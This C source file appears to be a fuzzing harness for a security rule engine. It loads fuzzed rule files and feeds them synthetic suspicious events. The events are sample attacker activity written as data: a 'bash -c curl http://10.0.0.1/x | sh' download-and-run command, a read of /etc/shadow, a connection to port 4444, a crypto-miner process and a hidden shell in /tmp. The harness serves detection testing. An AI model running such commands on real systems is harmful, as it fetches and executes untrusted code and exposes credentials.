/* SPDX-License-Identifier: MIT */
/* See fuzz_engine.h. */
#include "fuzz_engine.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "engine.h"
#include "fuzz_pipe.h"

static char dir[64];

static void cleanup(void)
{
	char path[128];
	snprintf(path, sizeof(path), "%s/rules.yaml", dir);
	unlink(path);
	snprintf(path, sizeof(path), "%s/rules.lua", dir);
	unlink(path);
	rmdir(dir);
}

static void setup(void)
{
	if (dir[0])
		return;
	const char *tmp = getenv("TMPDIR");
	snprintf(dir, sizeof(dir), "%s/eg-fuzz.XXXXXX", tmp && *tmp && strlen(tmp) < 40 ? tmp : "/tmp");
	if (!mkdtemp(dir))
		fuzz_fail("mkdtemp %s failed", dir);
	atexit(cleanup);
}

/* The engine's log lines (rule errors, guard.log) are expected: drop them. */
static void quiet(void *ctx, const char *line, size_t len)
{
	(void)ctx;
	(void)line;
	(void)len;
}

static uint32_t nrules_seen;

static void on_hit(void *ctx, const struct eg_event *ev, uint32_t rule, const char *desc,
		   size_t desc_len)
{
	const struct eg_event *events = ctx;
	if (ev < events || ev >= events + 8 || rule >= nrules_seen)
		fuzz_fail("hit out of range: event %td, rule %u of %u", ev - events, rule, nrules_seen);
	if (desc) {
		volatile char sink = 0;
		for (size_t i = 0; i < desc_len; i++)
			sink ^= desc[i];
		(void)sink;
	}
}

static void run_events(struct eg_engine *e)
{
	static const char args[] = "bash\0-c\0curl http://10.0.0.1/x | sh";
	static const struct {
		uint32_t type, flags, pid, tgid, port;
		const char *comm, *filename, *exe, *dest_ip;
	} spec[8] = {
		{EG_EV_EXEC, 0, 100, 100, 0, "bash", "/bin/bash", "/usr/bin/bash", ""},
		{EG_EV_EXEC, EG_EVF_MEMFD, 101, 101, 0, "x", "/dev/shm/.x", "/memfd:x (deleted)", ""},
		{EG_EV_OPEN, 0, 102, 100, 0, "cat", "/etc/shadow", "", ""},
		{EG_EV_CONNECT, 0, 100, 100, 4444, "bash", "connect", "", "10.0.0.1"},
		{EG_EV_CONNECT, 0, 103, 103, 3333, "xmrig", "connect", "", "2001:db8::1"},
		{EG_EV_OPEN, EG_EVF_TRUNCATED, 104, 104, 0, "\xff\x01\n", "/tmp/caf\xe9", "", ""},
		{EG_EV_EXIT, 0, 100, 100, 0, "bash", "", "", ""},
		{EG_EV_EXEC, 0, 105, 105, 0, "sh", "/tmp/.hidden/sh", "/tmp/.hidden/sh", ""},
	};
	struct eg_event ev[8];
	memset(ev, 0, sizeof(ev));
	for (int i = 0; i < 8; i++) {
		ev[i].ts_ns = 1735732800000000000LL + i * 100000000LL;
		ev[i].type = spec[i].type;
		ev[i].flags = spec[i].flags;
		ev[i].pid = spec[i].pid;
		ev[i].tgid = spec[i].tgid;
		ev[i].ppid = 1;
		ev[i].uid = (uint32_t)i * 500;
		ev[i].open_flags = spec[i].type == EG_EV_OPEN ? 0x241 : 0;
		ev[i].dest_port = spec[i].port;
		ev[i].comm = spec[i].comm;
		ev[i].comm_len = (uint32_t)strlen(spec[i].comm);
		ev[i].filename = spec[i].filename;
		ev[i].filename_len = (uint32_t)strlen(spec[i].filename);
		ev[i].exe = spec[i].exe;
		ev[i].exe_len = (uint32_t)strlen(spec[i].exe);
		ev[i].dest_ip = spec[i].dest_ip;
		ev[i].dest_ip_len = (uint32_t)strlen(spec[i].dest_ip);
		ev[i].args = "";
	}
	ev[0].args = args;
	ev[0].args_len = sizeof(args);
	ev[0].argc = 3;
	ev[7].args = "sh";
	ev[7].args_len = 3;
	ev[7].argc = 1;
	char err[512];
	nrules_seen = (uint32_t)eg_engine_nrules(e);
	/* twice: state kept between calls (guard.state, counters) */
	for (int round = 0; round < 2; round++) {
		err[0] = 0;
		if (eg_engine_run(e, ev, 8, on_hit, ev, err, sizeof(err)))
			fuzz_fail("eg_engine_run failed: %s", err);
		eg_engine_gc_step(e);
	}
}

int fuzz_engine_one(const uint8_t *data, size_t size, const char *ext, char *err, size_t errlen)
{
	setup();
	char path[128];
	snprintf(path, sizeof(path), "%s/rules.%s", dir, ext);
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	if (fd < 0)
		fuzz_fail("cannot create %s", path);
	for (size_t off = 0; off < size;) {
		ssize_t w = write(fd, data + off, size - off);
		if (w <= 0)
			fuzz_fail("cannot write %s", path);
		off += (size_t)w;
	}
	close(fd);

	const char *configs[] = {path};
	struct eg_engine_opts o = {
		.configs = configs, .nconfigs = 1, .budget = FUZZ_BUDGET,
		.mem_limit_mb = FUZZ_MEM_LIMIT_MB, .log = quiet,
	};
	err[0] = 0;
	struct eg_engine *e = eg_engine_new(&o, err, errlen);
	if (!e) {
		size_t pl = strlen(path);
		if (!err[0])
			fuzz_fail("eg_engine_new failed without a message");
		if (!strncmp(err, "engine: ", 8))
			fuzz_fail("internal error while loading (not a config error): %s", err);
		int names_file = !strncmp(err, path, pl) && !strncmp(err + pl, ": ", 2);
		if (!names_file && strncmp(err, "too many rules", 14))
			fuzz_fail("config error that does not name the file: %s", err);
		return 0;
	}
	run_events(e);
	eg_engine_free(e);
	return 1;
}
